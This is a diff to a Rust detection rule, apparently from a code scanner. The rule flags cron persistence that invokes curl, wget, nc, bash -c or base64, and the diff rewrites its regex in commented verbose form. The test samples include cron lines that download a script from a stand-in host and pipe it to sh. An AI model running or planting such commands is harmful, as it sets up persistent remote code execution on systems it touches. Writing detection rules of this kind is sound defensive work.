@@ -14,11 +14,13 @@ pub(crate) const RULE: Rule = Rule {
     code_counts: true,
     matcher: Matcher::Raw {
         literals: &["* * * *", "@reboot", "@hourly", "crontab -"],
-        pattern: concat!(
-            r"(?m)(?:(?:[\d*/,-]+ ){4}[\d*/,-]+|@(?:reboot|hourly|daily))\s+[^\n]{0,80}\b(?:curl|wget|nc",
-            r"|bash\s+-c|python\d?\s+-c|base64)\b",
-            r"|\|\s*crontab\s+-",
-        ),
+        pattern: r"(?mx)
+            # five fields or a name for them, and a command
+            (?:(?:[\d*/,-]+\ ){4}[\d*/,-]+|@(?:reboot|hourly|daily))\s+[^\n]{0,80}
+            \b(?:curl|wget|nc|bash\s+-c|python\d?\s+-c|base64)\b
+            # a table that is piped in
+          | \|\s*crontab\s+-
+        ",
         keep: any,
     },
     hits: &["*/2 * * * * curl -s http://x.y/s | sh", "@reboot wget x.y/a"],
